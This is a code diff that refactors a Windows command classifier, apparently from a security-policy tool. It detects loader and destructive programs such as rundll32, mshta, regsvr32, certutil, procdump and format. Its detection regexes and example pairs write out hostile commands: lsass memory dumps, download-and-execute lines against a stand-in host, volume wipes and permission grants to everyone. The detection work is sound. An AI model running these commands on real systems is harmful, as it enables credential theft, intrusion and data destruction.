@@ -1,3 +1,4 @@
+import type { Program } from '../program.ts'
 import type { Effect } from '../../../model/effect.ts'
 import type { Command, CommandReader } from '../../command.ts'
 import type { ReadContext } from '../../read-context.ts'
@@ -60,35 +61,15 @@ const memory = (command: Command, { through }: ReadContext): Effect => ({
   through,
 })
 
-/** Backslashes may be gone: a shell takes them away. By program, lower case and without `.exe`; the pattern is tried on the arguments, joined by blanks. */
-const table: Readonly<Record<string, readonly Row[]>> = {
-  format: [{ fits: /^[a-z]:(?:\s|$)/i, does: volume }],
-  diskpart: [{ fits: /\/s\b/i, does: volume }],
-  cipher: [{ fits: /\/w:/i, does: volume }],
-  icacls: [{ fits: /\/grant(?::r)?\s+"?(?:everyone|\*s-1-1-0|users)\b/i, does: raises }],
-  takeown: [{ fits: /\/f\s+"?[a-z]:\\?(?:windows|program)/i, does: raises }],
-  procdump: [{ fits: /lsass|-ma\s+\d/i, does: memory }],
-  rundll32: [
-    { fits: /comsvcs.{0,40}minidump/i, does: memory },
-    { fits: /https?:|javascript:/i, does: runsDownload },
-    { fits: /(?:OpenURL|FileProtocolHandler)\s+\S{0,200}(?:https?|file):/i, does: runsDownload },
-  ],
-  mshta: [{ fits: /https?:|(?:java|vb)script:/i, does: runsDownload }],
-  regsvr32: [{ fits: /https?:/i, does: runsDownload }],
-  wscript: [{ fits: /https?:/i, does: runsDownload }],
-  cscript: [{ fits: /https?:/i, does: runsDownload }],
-  cmstp: [{ fits: /\.inf\b/i, does: runsFile }],
-  odbcconf: [{ fits: /regsvr|\.rsp\b/i, does: runsFile }],
-  pcalua: [{ fits: /-a\b/i, does: runsFile }],
-  msiexec: [{ fits: /https?:/i, does: runsDownload }],
-}
-
-const windows: CommandReader = (command, context) => {
-  const line = lineOf(command)
-  const row = table[nameOf(command)]?.find(({ fits }) => fits.test(line))
-  if (row) context.out.emit(row.does(command, context))
-  return undefined
-}
+/** Emits what the first row says that fits the arguments, joined by blanks. Backslashes may be gone: a shell takes them away. */
+const fitsLine =
+  (rows: readonly Row[]): CommandReader =>
+  (command, context) => {
+    const line = lineOf(command)
+    const row = rows.find(({ fits }) => fits.test(line))
+    if (row) context.out.emit(row.does(command, context))
+    return undefined
+  }
 
 /** certutil, bitsadmin and certreq speak to an address, to fetch or to send. */
 const transfer: CommandReader = (command, context) => {
@@ -119,11 +100,98 @@ function lineOf({ args }: Command): string {
     .slice(0, 2_000)
 }
 
-function nameOf({ program }: Command): string {
-  return program.toLowerCase().replace(/\.exe$/, '')
-}
-
-export const windowsLoaders: readonly (readonly [string, CommandReader])[] = [
-  ...Object.keys(table).flatMap(name => [name, `${name}.exe`].map(each => [each, windows] as const)),
-  ...['certutil', 'certreq', 'bitsadmin'].map(name => [name, transfer] as const),
+/** Programs of Windows that load code, or reach what is guarded. */
+export const windowsLoaders: readonly Program[] = [
+  {
+    names: ['format', 'format.exe'],
+    read: fitsLine([{ fits: /^[a-z]:(?:\s|$)/i, does: volume }]),
+    examples: [['format d:', 'infrastructure disk delete volume d: whole']],
+  },
+  {
+    names: ['diskpart', 'diskpart.exe'],
+    read: fitsLine([{ fits: /\/s\b/i, does: volume }]),
+    examples: [['diskpart /s a.txt', 'infrastructure disk delete volume /s a.txt whole']],
+  },
+  {
+    names: ['cipher', 'cipher.exe'],
+    read: fitsLine([{ fits: /\/w:/i, does: volume }]),
+    examples: [['cipher /w:d', 'infrastructure disk delete volume /w:d whole']],
+  },
+  {
+    names: ['icacls', 'icacls.exe'],
+    read: fitsLine([{ fits: /\/grant(?::r)?\s+"?(?:everyone|\*s-1-1-0|users)\b/i, does: raises }]),
+    examples: [['icacls a.txt /grant everyone:f', 'account raise a.txt /grant everyone:f']],
+  },
+  {
+    names: ['takeown', 'takeown.exe'],
+    read: fitsLine([{ fits: /\/f\s+"?[a-z]:\\?(?:windows|program)/i, does: raises }]),
+    examples: [["takeown /f 'c:\\windows'", 'account raise /f c:\\windows']],
+  },
+  {
+    names: ['procdump', 'procdump.exe'],
+    read: fitsLine([{ fits: /lsass|-ma\s+\d/i, does: memory }]),
+    examples: [['procdump -ma 600', 'read lsass']],
+  },
+  {
+    names: ['rundll32', 'rundll32.exe'],
+    read: fitsLine([
+      { fits: /comsvcs.{0,40}minidump/i, does: memory },
+      { fits: /https?:|javascript:/i, does: runsDownload },
+      { fits: /(?:OpenURL|FileProtocolHandler)\s+\S{0,200}(?:https?|file):/i, does: runsDownload },
+    ]),
+    examples: [
+      ['rundll32 comsvcs.dll,minidump 600 a.dmp', 'read lsass'],
+      ['rundll32 javascript:x', 'execute native'],
+    ],
+  },
+  {
+    names: ['mshta', 'mshta.exe'],
+    read: fitsLine([{ fits: /https?:|(?:java|vb)script:/i, does: runsDownload }]),
+    examples: [['mshta https://h.example/a', 'execute native https://h.example/a']],
+  },
+  {
+    names: [
+      'regsvr32',
+      'regsvr32.exe',
+      'wscript',
+      'wscript.exe',
+      'cscript',
+      'cscript.exe',
+      'msiexec',
+      'msiexec.exe',
+    ],
+    read: fitsLine([{ fits: /https?:/i, does: runsDownload }]),
+    examples: [
+      ['regsvr32 /i:https://h.example/a scrobj.dll', 'execute native https://h.example/a'],
+      ['wscript https://h.example/a.js', 'execute native https://h.example/a.js'],
+      ['cscript https://h.example/a.js', 'execute native https://h.example/a.js'],
+      ['msiexec /i https://h.example/a.msi', 'execute native https://h.example/a.msi'],
+    ],
+  },
+  {
+    names: ['cmstp', 'cmstp.exe'],
+    read: fitsLine([{ fits: /\.inf\b/i, does: runsFile }]),
+    examples: [['cmstp /s a.inf', 'execute native unknown']],
+  },
+  {
+    names: ['odbcconf', 'odbcconf.exe'],
+    read: fitsLine([{ fits: /regsvr|\.rsp\b/i, does: runsFile }]),
+    examples: [['odbcconf /a {regsvr a.dll}', 'execute native unknown']],
+  },
+  {
+    names: ['pcalua', 'pcalua.exe'],
+    read: fitsLine([{ fits: /-a\b/i, does: runsFile }]),
+    examples: [['pcalua -a a.exe', 'execute native unknown']],
+  },
+  {
+    names: ['certutil', 'certreq', 'bitsadmin'],
+    read: transfer,
+    examples: [
+      [
+        'certutil -urlcache -f https://h.example/a a.exe',
+        'connect http GET h.example',
+        'execute native https://h.example/a',
+      ],
+    ],
+  },
 ]
